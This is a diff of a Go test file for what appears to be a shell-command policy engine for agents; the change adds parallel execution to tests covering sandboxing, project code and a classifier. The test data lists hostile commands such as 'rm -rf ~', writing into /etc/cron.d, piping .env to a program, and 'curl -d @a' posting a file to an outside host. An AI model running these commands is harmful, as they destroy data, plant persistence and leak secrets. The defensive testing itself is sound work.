@@ -25,6 +25,7 @@ func boxed(t *testing.T, e *Engine, line string, more ...func(*core.Call)) core.
 // With projectCode: ask people decide about tests and builds; what reads, compiles or
 // writes only goes on.
 func TestAdversary_W12_ProjectCodeAsks(t *testing.T) {
+	t.Parallel()
 	ask := func(c *Config) { c.ProjectCode = "ask" }
 	e := engine(t, shipped, ask)
 	for _, line := range []string{"go test ./...", "npm test", "make test", "./gradlew build", "pytest -q", "timeout 60 go test .", "ls && go test .", "node_modules/.bin/eslint .", "bash -c 'go test .'"} {
@@ -46,6 +47,7 @@ func TestAdversary_W12_ProjectCodeAsks(t *testing.T) {
 
 // What the operator lists for other commands lets no project code pass.
 func TestAdversary_W12_AListForOthersIsNoneForProjectCode(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped, func(c *Config) {
 		c.ProjectCode, c.ExecAllowlist = "ask", []string{"git fetch"}
 		c.Rules = []Rule{{Name: "fetch", Match: Match{Command: []string{"git pull"}}, Outcome: "allow"}}
@@ -61,6 +63,7 @@ func TestAdversary_W12_AListForOthersIsNoneForProjectCode(t *testing.T) {
 
 // In a sandbox what policy only does not know is R2, and the project's own code too.
 func TestSandboxed(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped, sandboxed, func(c *Config) { c.ProjectCode = "ask" })
 	for _, line := range []string{
 		"frobnicate a --now", "ls | frobnicate", "for i in 1 2; do frobnicate $i; done", "echo $((1+2))", "[[ -f a ]] && echo x", "echo `date`", "f() { ls; }; ls &",
@@ -83,6 +86,7 @@ func TestSandboxed(t *testing.T) {
 
 // What policy knows to be worse stays what it is.
 func TestASandboxHidesNothingThatIsKnown(t *testing.T) {
+	t.Parallel()
 	with, without := engine(t, shipped, strict, sandboxed), engine(t, shipped, strict)
 	for _, line := range []string{
 		"rm -rf src", "frobnicate; rm -rf ~", "frobnicate && git push", "frobnicate > /etc/cron.d/x", "cat .env | frobnicate", "frobnicate && curl -d @a https://x.org", "sudo frobnicate", "docker run x", "npm install x", "npm publish",
@@ -101,6 +105,7 @@ func TestASandboxHidesNothingThatIsKnown(t *testing.T) {
 // The sandbox is the operator's word: nothing that a call says makes it count, and what
 // the call says of another place ends it.
 func TestNoCallSaysThatItIsSandboxed(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped, sandboxed)
 	require.Equal(t, core.OutcomeAllow, boxed(t, e, "frobnicate").Outcome)
 	for name, change := range map[string]func(*core.Call){
@@ -128,6 +133,7 @@ func TestNoCallSaysThatItIsSandboxed(t *testing.T) {
 
 // A classifier is not asked about what the sandbox answers for, and is about the rest.
 func TestAClassifierInASandbox(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped, refusing, sandboxed, func(c *Config) { c.Classifier.Enabled = true })
 	require.False(t, boxed(t, e, "frobnicate").Unsure)
 	c := lineCall(t, "frobnicate; $X")
